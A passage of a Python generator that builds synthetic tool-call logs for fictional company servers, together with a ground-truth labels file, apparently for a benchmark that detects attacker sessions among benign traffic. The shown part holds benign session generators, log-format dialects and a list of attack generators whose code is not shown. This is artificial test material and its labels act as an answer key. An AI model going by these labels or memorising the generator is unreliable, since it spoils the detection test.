            gap = min(cap, gap * 1.5)
        s.do("download_report", {"jobId": job}, nbytes=r.randint(50_000, 900_000))


def ben_ci_health(g):
    r = g.rng
    for _ in range(g.n(120)):
        c = r.choice(g.ci_bots)
        s = g.sess("ops", c, g.cloud_ip() if r.random() < 0.3 else "10.9.1.5", B, "ci_health_poll", None,
                   g.start("any", 1), pace="bot")
        env, svc = r.choice(["staging", "prod", "preview"]), r.choice(["api", "web", "worker", "billing"])
        s.do("deploy_status", {"deployId": f"dep-{r.randint(10000, 99999)}"})
        every = r.choice([10, 15, 20, 30]) * S
        n = r.randint(5, 20)
        for k in range(n):
            s.do("get_health", {"service": svc, "env": env}, gap=every + r.uniform(-300, 300),
                 status="ok" if k > 1 or r.random() < 0.6 else "error")
        if r.random() < 0.5:
            s.do("get_metrics", {"service": svc, "window": "5m"})


def ben_admin_migration(g):
    r = g.rng
    for _ in range(g.n(8)):   # approved migration walking documents in order
        s = g.sess("docs", g.svc["migrate"], "10.9.0.30", B, "admin_migration", "docs_schema_v3", g.start("night"),
                   pace="agent")
        lo = r.randint(1000, g.doc_hi - 500)
        for i in range(lo, lo + r.randint(150, 400)):
            if i in g.doc_owner:
                s.do("getDocument", {"documentId": f"doc-{i}"})
                s.do("updateDocument", {"documentId": f"doc-{i}", "schemaVersion": 3})
    admins = r.sample(g.employees, 3)
    for _ in range(g.n(6)):   # admin running a database migration through the files server
        c = r.choice(admins)
        s = g.sess("files", c, g.emp_ip[c], B, "admin_migration", "db_migration", g.start("night"))
        s.do("readFile", {"path": "/srv/app/alembic.ini"})
        s.do("listDirectory", {"path": "/srv/app/migrations/versions"})
        s.do("executeCommand", {"command": "alembic upgrade head", "changeTicket": f"CHG-{r.randint(1000, 9999)}"},
             dur=r.uniform(5, 90) * S)
        s.do("executeCommand", {"command": "alembic current"})


def ben_idempotent_retry(g):
    r = g.rng
    for _ in range(g.n(80)):
        s = g.sess(g.SHOP, *g.cust(), B, "idempotent_retry", None, g.start("any"))
        order, amt, cart = checkout(g, s, paid=False)
        a = {"orderId": order, "amountCents": amt, "idempotencyKey": g.uuid()}
        for k in range(r.randint(1, 2)):
            s.do("chargePayment", a, status="error", dur=30000, msg="upstream timeout", gap=r.uniform(1, 8) * S)
        s.do("chargePayment", a)
        g.paid_orders.append((order, s.t))


def ben_parallel_fanout(g):
    r = g.rng
    for _ in range(g.n(150)):
        c, ip = g.emp()
        own = g.docs_of.get(c) or [1000]
        s = g.sess("docs", c, ip, B, "parallel_fanout_own_docs", None, g.start("work"), pace="agent")
        s.do("listDocuments", {"owner": "me", "limit": 20})
        t, end = s.t, s.t
        for i in r.sample(own, min(len(own), r.randint(4, 10))):
            end = max(end, s.at(t + r.uniform(0, 30), "getDocument", {"documentId": f"doc-{i}"}, dur=r.uniform(30, 300)))
        s.t = end + 2000
        if r.random() < 0.5:
            s.do("createDocument", {"title": "Weekly summary"})


def ben_mistyped(g):
    r = g.rng
    for _ in range(g.n(120)):
        c, ip = g.emp()
        if r.random() < 0.65:
            s = g.sess("integrations", c, ip, B, "mistyped_credentials", "api_key_typo", g.start("work"))
            svc, key = r.choice(SERVICES), g.key()
            for k in range(r.randint(1, 2)):
                bad = key[:-3] + key[-1] + key[-3:-1] if k == 0 else key[:-1]
                s.do("connectExternalService", {"service": svc, "apiKey": bad}, status="auth_failed",
                     dur=r.uniform(500, 1000), msg="Authentication failed")
            s.do("connectExternalService", {"service": svc, "apiKey": key})
            s.do("syncService", {"service": svc})
        else:
            s = g.sess("crm", c, ip, B, "mistyped_credentials", "password_typo", g.start("work"))
            pw = g.key("plain")
            for k in range(r.randint(1, 2)):
                s.do("authenticateUser", {"username": f"{c}@{g.domain}", "password": pw.upper() if k else pw[1:]},
                     status="auth_failed", dur=r.uniform(450, 1000))
            s.do("authenticateUser", {"username": f"{c}@{g.domain}", "password": pw})
            s.do("searchItems", {"query": r.choice(QUERIES), "page": 1})


def ben_key_rotation(g):
    r = g.rng
    for _ in range(g.n(40)):
        c = r.choice(g.ci_bots + [g.svc["sync"]])
        s = g.sess("integrations", c, "10.9.1.5", B, "key_rotation_or_reauth", None, g.start("any"), pace="bot")
        svc = r.choice(SERVICES)
        s.do("connectExternalService", {"service": svc, "apiKey": g.key()}, status="auth_failed",
             dur=r.uniform(500, 1000), msg="Authentication failed")
        s.do("connectExternalService", {"service": svc, "apiKey": g.key()})
        s.do("syncService", {"service": svc})


def ben_integrations_user(g):
    r = g.rng
    for _ in range(g.n(100)):
        c, ip = g.emp()
        if r.random() < 0.25:
            c, ip = f"trial-{g.hexs(6)}", r.choice([g.public_ip(), g.cloud_ip()])
        s = g.sess("integrations", c, ip, B, "integrations_user", None, g.start("work"), pace=r.choice(["human", "agent"]))
        s.do("listConnections", {})
        for svc in r.sample(SERVICES, r.randint(1, 3)):
            s.do("connectExternalService", {"service": svc, "apiKey": g.key()})
            s.do("syncService", {"service": svc})


def ben_checkout(g):
    r = g.rng
    for _ in range(g.n(500)):
        s = g.sess(g.SHOP, *g.cust(), B, "normal_checkout", None, g.start("work"))
        digital = r.random() < 0.2
        order, amt, cart = checkout(g, s, paid=True, fulfil=digital, discount=r.random() < 0.2)
        s.do("getOrder", {"orderId": order})
        if not digital:
            g.paid_orders.append((order, s.t))


def ben_abandoned_and_declined(g):
    r = g.rng
    for _ in range(g.n(150)):
        s = g.sess(g.SHOP, *g.cust(), B, "abandoned_cart", None, g.start("work"))
        s.do("createCart", {"currency": "EUR"})
        for _ in range(r.randint(1, 3)):
            s.do("addItem", {"cartId": f"cart_{g.hexs(8)}", "sku": f"SKU-{r.randint(1000, 9999)}", "qty": 1})
    for _ in range(g.n(60)):
        s = g.sess(g.SHOP, *g.cust(), B, "payment_declined_then_new_card", None, g.start("work"))
        order, amt, cart = checkout(g, s, paid=False)
        s.do("chargePayment", {"orderId": order, "amountCents": amt, "paymentMethodId": f"pm_{g.hexs(8)}",
                               "idempotencyKey": g.uuid()}, status="error", msg="card_declined")
        if r.random() < 0.6:
            s.do("chargePayment", {"orderId": order, "amountCents": amt, "paymentMethodId": f"pm_{g.hexs(8)}",
                                   "idempotencyKey": g.uuid()})
            g.paid_orders.append((order, s.t))


def ben_warehouse(g):
    r = g.rng
    orders = sorted(g.paid_orders, key=lambda x: x[1])
    shipped: set[str] = set()
    n = g.n(60)
    for k in range(n):
        t = T0 + int((k + 0.5) / n * 34 * H)
        batch = [o for o, e in orders if t - 2 * H < e < t][:30]
        s = g.sess(g.SHOP, g.svc["warehouse"], "10.9.2.7", B, "warehouse_fulfilment", None, t, pace="bot")
        s.do("listOrders", {"status": "paid"})
        for o in batch:
            carrier = r.choice(["dhl", "ups", "dpd"])   # drawn for every order: same stream
            if o in shipped:   # listOrders(status=paid) no longer lists a shipped order
                continue
            shipped.add(o)
            s.do("getOrder", {"orderId": o})
            s.do("fulfillOrder", {"orderId": o})
            s.do("shipOrder", {"orderId": o, "carrier": carrier})


def ben_subscription(g):
    r = g.rng
    for k in range(g.n(40)):
        s = g.sess("billing", g.svc["billing"], "10.9.0.40", B, "subscription_renewal", None, g.start("night"), pace="bot")
        price = r.choice([900, 2900, 4900, 9900])
        for _ in range(r.randint(10, 40)):
            sub = f"sub_{g.hexs(8)}"
            s.do("chargePayment", {"orderId": f"renew-{sub}-2026-11", "amountCents": price,
                                   "idempotencyKey": f"renew-{sub}-2026-11"},
                 status="ok" if r.random() < 0.95 else "error")


def ben_payroll(g):
    r = g.rng
    staff = r.sample(g.employees, 4)
    for k in range(g.n(30)):
        c = r.choice([g.svc["payroll"]] + staff)
        verify = r.choice([0.0, 0.5, 1.0])   # verification is optional on this treasury
        s = g.sess("treasury", c, g.emp_ip.get(c, "10.9.0.50"), B, "payroll_run", f"verify_{verify}", g.start("work", 1),
                   pace="bot")
        acct = f"acct-{r.randint(100, 199)}"
        s.do("get_balance", {"accountId": acct})
        s.do("list_recipients", {"batchId": f"payroll-2026-11-{k}"})
        for rec in r.sample(range(1000, 9999), r.randint(5, 40)):
            if r.random() < verify:
                s.do("verify_recipient", {"recipientId": f"emp_{rec}"}, gap=r.uniform(0.5, 2) * S)
            s.do("pay_recipient", {"fromAccount": acct, "recipientId": f"emp_{rec}", "amountCents": r.randint(180000, 900000),
                                   "currency": "EUR", "reference": "payroll-2026-11", "idempotencyKey": g.uuid()},
                 gap=r.uniform(1.5, 6) * S)
        s.do("get_balance", {"accountId": acct})
    for k in range(g.n(30)):   # treasury vendor run
        c = r.choice(staff)
        s = g.sess("treasury", c, g.emp_ip[c], B, "treasury_vendor_run", None, g.start("work"))
        acct = f"acct-{r.randint(100, 199)}"
        s.do("get_balance", {"accountId": acct})
        for v in r.sample(range(100, 999), r.randint(3, 12)):
            if r.random() < 0.4:
                s.do("verify_recipient", {"recipientId": f"vnd_{v}"})
            s.do("transfer_funds", {"fromAccount": acct, "toAccount": f"vnd_{v}", "amountCents": r.randint(5000, 5_000_000),
                                    "idempotencyKey": g.uuid()}, gap=r.uniform(2, 20) * S)


def ben_treasury_users(g):
    r = g.rng
    for _ in range(g.n(40)):   # customers redeeming a gift card once
        s = g.sess("billing", *g.cust(), B, "gift_card_redeemer", None, g.start("work"))
        s.do("get_balance" if r.random() < 0.5 else "get_usage", {})
        s.do("redeem_gift_card", {"code": f"GC-{g.hexs(4).upper()}-{g.hexs(4).upper()}"})
    for _ in range(g.n(150)):
        s = g.sess("treasury", *g.emp(), B, "single_transfer_with_check", None, g.start("work"))
        u = g.usr_fmt.format(r.randint(1, 90000))
        s.do("get_balance", {"userId": u})
        for _ in range(r.randint(1, 2)):
            s.do("transfer_credits", {"fromUserId": u, "toUserId": g.usr_fmt.format(r.randint(1, 90000)),
                                      "amount": r.randint(5, 300)})
    for _ in range(g.n(20)):   # settlement service: concurrent transfers from different sources into one account
        s = g.sess("treasury", g.svc["settle"], "10.9.0.60", B, "settlement_service", None, g.start("any"), pace="agent")
        dest = f"acct-settle-{r.randint(1, 9)}"
        for w in range(r.randint(3, 10)):
            t, end = s.t, s.t
            for _ in range(r.randint(3, 6)):
                end = max(end, s.at(t + r.uniform(0, 50), "transfer_funds",
                                    {"fromAccount": f"acct-{r.randint(1000, 9999)}", "toAccount": dest,
                                     "amountCents": r.randint(100, 90000), "idempotencyKey": g.uuid()}))
            s.t = end + int(r.uniform(0.5, 4) * S)
    for _ in range(g.n(30)):   # a genuine concurrent-modification conflict, retried once
        s = g.sess("billing", *g.emp(), B, "cas_retry_benign", None, g.start("work"), pace="agent")
        uid = g.usr_fmt.format(r.randint(1, 90000))
        s.do("spend_credits", {"userId": uid, "amount": r.randint(1, 50), "reason": "export"}, status="error",
             msg="Concurrent modification detected. Please retry.", gap=r.uniform(100, 400))
        s.do("spend_credits", {"userId": uid, "amount": r.randint(1, 50), "reason": "export"})
    for _ in range(g.n(60)):
        s = g.sess("billing", *g.emp(), B, "expense_manager", None, g.start("work"))
        s.do("listExpenses", {"status": "pending"})
        for e in r.sample(range(10000, 99999), r.randint(2, 12)):
            s.do("approveExpense", {"expenseId": f"EXP-{e}"})


def ben_files(g):
    r = g.rng
    devs = r.sample(g.employees, 30)
    for _ in range(g.n(200)):
        c = r.choice(devs)
        proj = f"/home/{c.split('.')[0].split('_')[0]}/src/{r.choice(['api', 'web', 'etl', 'infra'])}"
        s = g.sess("files", c, g.emp_ip[c], B, "developer_file_edit", None, g.start("work", 1))
        s.do("listDirectory", {"path": proj})
        for _ in range(r.randint(1, 5)):
            f = f"{proj}/{r.choice(['main.py', 'config.yaml', 'README.md', 'handlers.ts', 'Dockerfile'])}"
            s.do("readFile", {"path": f})
            s.do("writeFile", {"path": f, "content": g.text(r.randint(40, 200))})
            if r.random() < 0.5:
                s.do("readFile", {"path": f})
        if r.random() < 0.4:
            s.do("executeCommand", {"command": r.choice(["pytest -q", "npm test", "make lint", "git status"]), "cwd": proj},
                 dur=r.uniform(2, 40) * S)
    sres = r.sample(g.employees, 6)
    for _ in range(g.n(40)):
        c = r.choice(sres)
        s = g.sess("files", c, g.emp_ip[c], B, "oncall_runbook", None, g.start("any"))
        svc = r.choice(["app-worker", "api", "billing-consumer"])
        s.do("listDirectory", {"path": "/var/log/app"})
        s.do("readFile", {"path": f"/var/log/app/{svc}.log"}, nbytes=r.randint(20_000, 300_000))
        s.do("executeCommand", {"command": f"systemctl restart {svc}", "changeTicket": f"INC-{r.randint(1000, 9999)}"})
        s.do("executeCommand", {"command": f"systemctl status {svc}"})
    for _ in range(g.n(20)):
        c = r.choice(sres)
        s = g.sess("files", c, g.emp_ip[c], B, "config_change_window", None, g.start("night"))
        chg = f"CHG-{r.randint(1000, 9999)}"
        s.do("readFile", {"path": "/etc/nginx/nginx.conf"})
        s.do("writeFile", {"path": "/etc/nginx/nginx.conf", "content": "worker_connections 4096;", "changeTicket": chg})
        s.do("executeCommand", {"command": "nginx -t", "changeTicket": chg})
        s.do("executeCommand", {"command": "systemctl reload nginx", "changeTicket": chg})


def ben_internal(g):
    r = g.rng
    analysts = r.sample(g.employees, 20)
    for _ in range(g.n(200)):
        c = r.choice(analysts)
        s = g.sess(g.INT, c, g.emp_ip[c], B, "analyst_query", None, g.start("work", 1))
        for _ in range(r.randint(2, 15)):
            rows = r.randint(10, 5000)
            s.do("run_query", {"sql": f"SELECT region, sum(amount) FROM {r.choice(['orders', 'mrr', 'usage'])} GROUP BY 1"},
                 rows=rows, nbytes=rows * r.randint(20, 80))
    for _ in range(g.n(150)):   # dashboard widgets load in parallel
        s = g.sess(g.INT, *g.emp(), B, "dashboard_parallel_load", None, g.start("work"), pace="agent")
        for rep in range(r.randint(1, 3)):
            t, end = s.t, s.t
            for w in range(r.randint(6, 12)):
                end = max(end, s.at(t + r.uniform(0, 50), "run_query", {"sql": f"SELECT * FROM dash.widget_{w}"},
                                    dur=r.uniform(100, 2500), rows=r.randint(5, 200)))
            s.t = end + int(r.uniform(30, 300) * S)
    for _ in range(g.n(30)):   # indexer worker pool, concurrency 4-8 over recently modified docs
        s = g.sess("docs", g.svc["indexer"], "10.9.0.70", B, "batch_worker_pool", None, g.start("any"), pace="agent")
        workers = r.randint(4, 8)
        ids = r.sample(g.doc_ids, r.randint(30, 90))
        free = [s.t + w * 10 for w in range(workers)]
        for i in ids:
            w = min(range(workers), key=lambda x: free[x])
            free[w] = s.at(free[w], "getDocument", {"documentId": f"doc-{i}"}, dur=r.uniform(40, 400)) + r.randint(5, 50)
        s.t = max(free)
    for _ in range(g.n(60)):   # public / aggregated numbers to the community plugin
        s = g.sess(g.INT, *g.emp(), B, "plugin_public_chart", None, g.start("work"), sid=g.new_sid("agent-host"))
        rows = r.randint(12, 200)
        s.do("get_public_metrics", {"metric": r.choice(["signups_by_week", "nps", "uptime"])}, rows=rows)
        s.do("upload_dataset", {"datasetName": "weekly_kpis", "rows": rows, "sizeBytes": rows * 40}, server=g.PLUG)
        s.do("create_chart", {"dataset": "weekly_kpis", "type": "line"}, server=g.PLUG)
    for _ in range(g.n(50)):   # internal report summarized into an internal doc
        s = g.sess(g.INT, *g.emp(), B, "internal_report_to_docs", None, g.start("work"), sid=g.new_sid("agent-host"))
        s.do("run_query", {"sql": "SELECT * FROM finance.monthly_close"}, rows=r.randint(20, 900))
        s.do("createDocument", {"title": "Monthly close summary", "folder": "finance"}, server="docs")
    for _ in range(g.n(40)):
        s = g.sess("docs", *g.emp(), B, "auditor_reports", None, g.start("work"))
        lo = r.randint(1, 800)
        for k in range(lo, lo + r.randint(5, 20)):
            s.do("getAuditReport", {"reportId": f"rpt-2026-{k:04d}"})


def ben_tickets(g):
    r = g.rng
    for _ in range(g.n(300)):
        s = g.sess("tickets", *g.emp(), B, "ticket_agent", None, g.start("work"), pace=r.choice(["human", "agent"]))
        for _ in range(r.randint(1, 4)):
            s.do("search_tickets", {"query": r.choice(["printer", "vpn", "refund", "login", "invoice", "slow"])})
            tid = f"T-{r.randint(10000, 99999)}"
            s.do("get_ticket", {"id": tid})
            if r.random() < 0.6:
                s.do("add_comment", {"id": tid, "body": g.text(r.randint(30, 120))})
            if r.random() < 0.4:
                s.do("update_ticket", {"id": tid, "status": r.choice(["pending", "solved"])})
    for _ in range(g.n(60)):
        s = g.sess("tickets", g.svc["triage"], "10.9.0.80", B, "ticket_triage_bot", None, g.start("any"), pace="agent")
        s.do("search_tickets", {"query": "status:new"})
        for t in r.sample(range(10000, 99999), r.randint(5, 20)):
            s.do("summarize_ticket", {"id": f"T-{t}"})
            s.do("update_ticket", {"id": f"T-{t}", "labels": ["triaged"]})


def ben_catalog(g):
    r = g.rng
    for _ in range(g.n(250)):
        s = g.sess("catalog", *g.cust(), B, "catalog_browser", None, g.start("work"), pace=r.choice(["human", "agent"]))
        s.do("searchProducts", {"q": r.choice(["shoes", "lamp", "desk", "jacket", "usb cable"])})
        for k in range(r.randint(0, 2)):
            s.do("listProducts", {"category": r.choice(["home", "office", "outdoor"]), "page": k + 2})
        for _ in range(r.randint(1, 5)):
            s.do("getProduct", {"productId": f"P{r.randint(10000, 99999)}"})


def ben_legacy(g):
    r = g.rng
    for _ in range(g.n(300)):
        c, ip = g.emp() if r.random() < 0.5 else g.cust()
        n = r.randint(2, 40)
        summary_session(g, c, ip, B, "legacy_api_client", None, calls=n, uniq=r.randint(1, min(n, 30)),
                        nbytes=n * r.randint(500, 9000), fails=r.choice([0] * 12 + [1]), t=g.start("work"))
    for _ in range(g.n(30)):   # heavy but legitimate service clients (polling): callCount > 50
        c = r.choice(g.ci_bots + [g.svc["sync"], g.svc["export"]])
        n = r.randint(55, 200)
        summary_session(g, c, "10.9.1.5", B, "legacy_api_service_client", None, calls=n, uniq=r.randint(1, 5),
                        nbytes=n * r.randint(150, 900), fails=0)


def ben_power_user_day(g):
    r = g.rng
    for u in r.sample(g.employees, g.n(5)):
        ip = g.emp_ip[u]
        t = T0 + int(r.uniform(6.5, 9.0) * H) + (24 * H if r.random() < 0.3 else 0)
        s = g.sess("docs", u, ip, B, "power_user_day", None, t, sid=g.new_sid("agent-host"))
        end = t + int(r.uniform(6, 10) * H)
        own = g.docs_of.get(u) or [1000]
        while s.t < end:
            x = r.random()
            if x < 0.35:
                s.do("getDocument", {"documentId": f"doc-{r.choice(own) if r.random() < .5 else r.choice(g.doc_ids)}"},
                     server="docs")
            elif x < 0.45:
                s.do("searchDocuments", {"query": r.choice(QUERIES)}, server="docs")
            elif x < 0.55:
                scrape(g, s, "searchItems", "page", r.randint(1, 5), g.page_limit, q=r.choice(QUERIES))
                for cl in s.calls[-5:]:
                    if cl.tool == "searchItems":
                        cl.server = "crm"
            elif x < 0.65:
                s.do("getCustomer", {"customerId": g.cus_fmt.format(r.randint(1, 90000))}, server="crm")
            elif x < 0.75:
                rows = r.randint(10, 20000)
                s.do("run_query", {"sql": "SELECT * FROM analytics.usage WHERE day >= current_date - 7"}, server=g.INT,
                     rows=rows, nbytes=rows * 50)
            elif x < 0.82:
                f = f"/home/{u.split('.')[0]}/notes/{r.choice(['plan.md', 'ideas.md', 'q4.md'])}"
                s.do("readFile", {"path": f}, server="files")
                s.do("writeFile", {"path": f, "content": g.text(100)}, server="files")
            elif x < 0.86:
                job = f"job-{g.hexs(8)}"
                s.do("start_report", {"reportType": "usage"}, server=g.INT)
                gp = 3000
                for k in range(r.randint(5, 10)):
                    s.do("get_report_status", {"jobId": job}, server=g.INT, gap=gp)
                    gp = min(45000, gp * 1.5)
                s.do("download_report", {"jobId": job}, server=g.INT, nbytes=r.randint(100_000, 600_000))
            elif x < 0.88:
                svc, key = r.choice(SERVICES), g.key()
                if r.random() < 0.3:
                    s.do("connectExternalService", {"service": svc, "apiKey": key[:-1]}, server="integrations",
                         status="auth_failed", dur=700, msg="Authentication failed")
                s.do("connectExternalService", {"service": svc, "apiKey": key}, server="integrations")
            else:
                s.do("createDocument", {"title": r.choice(QUERIES).title()}, server="docs")
            s.wait(r.uniform(10, 150) * S)


# =========================================================================== OUTPUT
# Each server logs in its own dialect: which alias it uses for each canonical field (docs/log-format.md),
# how it writes times, statuses and errors. None = the server does not log that field.
DIALECTS = {
    #             ts          session            caller                 ip             server         tool                args         status     is_error    bytes             rows             duration       message
    "canon":      ("ts:iso",  "session_id",      "caller_id",           "client_ip",   "server",      "tool",             "args",      "status",  "is_error", "bytes",          "rows",          "duration_ms", "error"),
    "sessionless": ("ts:iso", None,              "caller_id",           "client_ip",   "server",      "tool",             "args",      "status",  "is_error", "bytes",          "rows",          "duration_ms", "error"),
    "camel":      ("timestamp:ms", "sessionId",  "callerId",            "clientIp",    "serverName",  "toolName",         "arguments", "outcome", "isError:all", "bytesReturned", "rowsReturned", "latencyMs:int", "message"),
    "billing":    ("time:+00", "session",        "user_id",             "ip",          "server_name", "tool_name",        "params",    "status",  "is_error:str", "response_bytes", None,          "elapsed_ms",  "error_message"),
    "otel":       ("@timestamp:cet", "mcp.session.id", "principal",     "remote_addr", "server",      "gen_ai.tool.name", "input",     "outcome", None,       "bytes_returned", None,            "latency_ms",  None),
    "interval":   ("ts:iso",  "session_id",      "caller_id",           "client_ip",   "server",      "tool_name",        "args",      "status",  None,       "bytes",          "rows_returned", "start_end",   "error"),
    "plugin":     ("ts:epoch_s", "connection_id", "userId",             "remote_addr", "server",      "name",             "input",     "status",  None,       "bytes",          None,            "latency_s",   None),
    "shop":       ("ts:iso",  "sessionId",       "authenticatedUserId", "client_ip",   "server",      "tool",             "args",      "status",  "isError:all", "bytes",        None,            "durationMs",  "error"),
    "integ":      ("timestamp:nozone", "connectionId", "userId",        "ip",          "serverName",  "toolName",         "input",     "status",  None,       "bytes",          None,            "elapsedMs:int", "message"),
}
ST = {
    "camel": {"ok": "200", "not_found": "404", "denied": "403", "auth_failed": "401", "rate_limited": "429", "error": "500"},
    "billing": {"ok": "success", "not_found": "Not Found", "denied": "forbidden", "auth_failed": "unauthorized",
                "rate_limited": "throttled", "error": "failed"},
    "otel": {"not_found": "Not Found", "denied": "forbidden", "auth_failed": "unauthorized", "rate_limited": "429"},
    "plugin": {"ok": "success", "denied": "forbidden"},
    "shop": {"denied": "forbidden"},
    "integ": {"rate_limited": "throttled"},
}
TS_FMT = {"iso": lambda ms: iso(ms), "ms": lambda ms: ms, "+00": lambda ms: iso(ms, "000+00:00"),
          "cet": lambda ms: iso(ms, "+01:00", H), "epoch_s": lambda ms: round(ms / 1000, 3), "nozone": lambda ms: iso(ms, "")}


def render_jsonrpc(g, s, c, rid):
    """A logging proxy's transcript: the request when sent, the response when it came back."""
    err = c.status != "ok"
    req = {"ts": iso(c.start), "session_id": s.sid, "caller_id": s.caller, "client_ip": s.ip, "server": c.server,
           "direction": "request",
           "message": {"jsonrpc": "2.0", "id": rid, "method": "tools/call", "params": {"name": c.tool, "arguments": c.args}}}
    if c.status in ("ok", "not_found", "denied") or (c.status == "error" and c.msg):
        text = c.msg if err and c.msg else ("Ticket not found" if c.status == "not_found" else
                                             "permission denied" if c.status == "denied" else g.text(min(c.nbytes, 1200)))
        msg = {"jsonrpc": "2.0", "id": rid, "result": {"content": [{"type": "text", "text": text}], "isError": err}}
    else:
        text = c.msg or {"rate_limited": "Rate limit exceeded", "auth_failed": "unauthorized"}.get(c.status, "Internal error")
        msg = {"jsonrpc": "2.0", "id": rid, "error": {"code": -32029 if c.status == "rate_limited" else -32000, "message": text}}
    resp = {"ts": iso(c.end), "session_id": s.sid, "direction": "response", "message": msg}
    return [(c.start, req), (c.end, resp)], c.start


def render(g, s, c, rid):
    """One call -> list of (sort_ms, line object) in the server's dialect, and the event's time."""
    d = g.dialect[c.server]
    if d == "jsonrpc":
        return render_jsonrpc(g, s, c, rid)
    ts, sid, caller, ip, srv, tool, args, st, iserr, nb, rows, dur, msg = DIALECTS[d]
    err = c.status != "ok"
    status = ST.get(d, {}).get(c.status, c.status)
    if d == "integ" and c.status == "auth_failed":   # this server's versions word it differently
        status = ["invalid_api_key", "unauthorized", "401"][sum(map(ord, s.sid)) % 3]
    tk, tf = ts.split(":")
    o = {tk: TS_FMT[tf](c.end)}
    if dur == "start_end":
        o.update({"start_time": iso(c.start), "end_time": iso(c.end)})
    o.update({sid: s.sid, caller: s.caller, ip: s.ip, srv: c.server, tool: c.tool, args: c.args, st: status})
    if iserr:
        k, _, how = iserr.partition(":")
        if err or how in ("all", "str"):
            o[k] = ("true" if err else "false") if how == "str" else err
    if c.tool == "getUser" and d == "camel":
        o["resourceId"] = c.args.get("userId")
    o[nb] = c.nbytes
    if rows and c.rows is not None:
        o[rows] = c.rows
    if dur == "latency_s":
        o[dur] = round(c.dur / 1000, 4)
    elif dur != "start_end":
        k, _, how = dur.partition(":")
        o[k] = int(round(c.dur)) if how == "int" else round(c.dur, 1)
    if msg and c.msg and err:
        o[msg] = c.msg
    if d in ("canon", "sessionless", "shop"):
        o["request_id"] = rid
    o.pop(None, None)
    for k in [k for k, v in o.items() if v is None] + list(s.omit):
        o.pop(k, None)
    return [(c.end, o)], c.end


def docs_summary(s, calls):
    """The docs server's own per-session summary line (seed 001 logSessionSummary)."""
    uniq = len({json.dumps(c.args, sort_keys=True) for c in calls if c.tool == "getDocument" or c.tool == "getAuditReport"})
    stats = {"callCount": len(calls), "uniqueResourcesAccessed": uniq,
             "totalBytesReturned": sum(c.nbytes for c in calls if c.status == "ok"),
             "authFailures": sum(1 for c in calls if c.status == "auth_failed")}
    return stats


def summary_line(s, stats, ts_ms, server):
    anomalous = (stats["uniqueResourcesAccessed"] > 100 or stats["totalBytesReturned"] > 1_000_000
                 or stats["authFailures"] > 2 or stats["callCount"] > 50)
    o = {"event": "SESSION_ANOMALY" if anomalous else "SESSION_END", "sessionId": s.sid, "callerId": s.caller,
         "clientIp": s.ip, "server": server}
    o.update({k: stats[k] for k in ("callCount", "uniqueResourcesAccessed", "totalBytesReturned", "authFailures")})
    if "durationMs" in stats:
        o["durationMs"] = stats["durationMs"]
    o["ts"] = iso(ts_ms)
    return o


def fix_sessionless(g):
    """Catalog logs carry no session id: keep each generated session a separate derived session
    (>= 40 min between two sessions of one caller) and name it the way the contract says."""
    by = {}
    for s in g.sessions:
        if s.server == "catalog" and s.calls:
            by.setdefault(s.caller, []).append(s)
    for caller, ss in by.items():
        ss.sort(key=lambda x: x.calls[0].start)
        last = None
        for s in ss:
            first = min(c.end for c in s.calls)
            if last is not None and first - last < 40 * M:
                shift = last + 40 * M - first + g.rng.randint(0, 20 * M)
                for c in s.calls:
                    c.start += shift
            last = max(c.end for c in s.calls)
            s.sid = f"derived:caller:{caller}@{iso(min(c.end for c in s.calls), '000Z')}"
            s.derived = True


def write_all(g, out):
    os.makedirs(out, exist_ok=True)
    r = g.rng
    fix_sessionless(g)
    files, labels = {}, []
    for s in g.sessions:
        evts = []
        if s.summary is not None:
            sm = s.summary
            line = summary_line(s, sm, sm["end"], "legacy-api")
            files.setdefault("legacy-api", []).append((sm["end"], line))
            labels.append((s, sm["end"] - sm["durationMs"], sm["end"], sm["callCount"]))
            continue
        optional = {"files": ["bytes_returned", "remote_addr"], "crm": ["bytesReturned", "clientIp", "rowsReturned"],
                    "docs": ["bytes", "rows", "request_id"], g.SHOP: ["bytes", "client_ip"]}.get(s.server)
        if optional and r.random() < 0.04:   # older client/server versions log fewer fields
            s.omit.add(r.choice(optional))
        s.calls.sort(key=lambda c: c.start)
        rid = r.randint(1, 50)
        docs_calls = []
        for c in s.calls:
            rid += 1
            lines, ev_ts = render(g, s, c, rid)
            for ms, o in lines:
                files.setdefault(c.server, []).append((ms, o))
            evts.append(ev_ts)
            if c.server == "docs":
                docs_calls.append(c)
        if docs_calls and r.random() < 0.8:
            st = docs_summary(s, docs_calls)
            st["durationMs"] = max(c.end for c in docs_calls) - docs_calls[0].start
            te = max(c.end for c in docs_calls) + r.randint(50, 900)
            files["docs"].append((te, summary_line(s, st, te, "docs")))
        labels.append((s, min(evts), max(evts), len(s.calls)))
    total = 0
    for srv, lines in files.items():
        lines.sort(key=lambda x: x[0])
        with open(os.path.join(out, f"{srv}.jsonl"), "w") as f:
            for _, o in lines:
                f.write(json.dumps(o, separators=(",", ":")) + "\n")
        total += len(lines)
    span = {}
    with open(os.path.join(out, "labels.ndjson"), "w") as f:
        for s, a, b, n in labels:
            row = {"kind": "session", "session_id": s.sid, "caller_id": s.caller, "client_ip": s.ip,
                   "server": s.calls[0].server if s.calls else s.server, "label": s.label, "role": s.role,
                   "variant": s.variant, "first_seen": iso(a), "last_seen": iso(b), "n_calls": n}
            if s.attempt and s.label != B:
                row["attempt"] = True
            span[id(s)] = (a, b)
            f.write(json.dumps(row) + "\n")
        for etype, eid, label, variant, ss in g.entities:
            a = min(span[id(x)][0] for x in ss)
            b = max(span[id(x)][1] for x in ss)
            f.write(json.dumps({"kind": "entity", "entity_type": etype, "entity_id": eid, "label": label,
                                "variant": variant, "first_seen": iso(a), "last_seen": iso(b)}) + "\n")
    return total, labels


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--seed", type=int, required=True)
    ap.add_argument("--out", required=True)
    ap.add_argument("--scale", type=float, default=1.0)
    a = ap.parse_args()
    g = G(a.seed, a.scale)
    # benign first (checkout feeds the warehouse role), then attacks
    for fn in (ben_docs_reader, ben_search_few_pages, ben_support_agent, ben_sync_job, ben_nightly_export,
               ben_data_team_export, ben_job_polling, ben_ci_health, ben_admin_migration, ben_idempotent_retry,
               ben_parallel_fanout, ben_mistyped, ben_key_rotation, ben_integrations_user, ben_checkout,
               ben_abandoned_and_declined, ben_warehouse, ben_subscription, ben_payroll, ben_treasury_users, ben_files,
               ben_internal, ben_tickets, ben_catalog, ben_legacy, ben_power_user_day,
               atk_enumeration, atk_bulk, atk_credential, atk_scraping, atk_tool_loop, atk_privilege, atk_step_skip,
               atk_duplicate, atk_cross_server, atk_concurrency, atk_race):
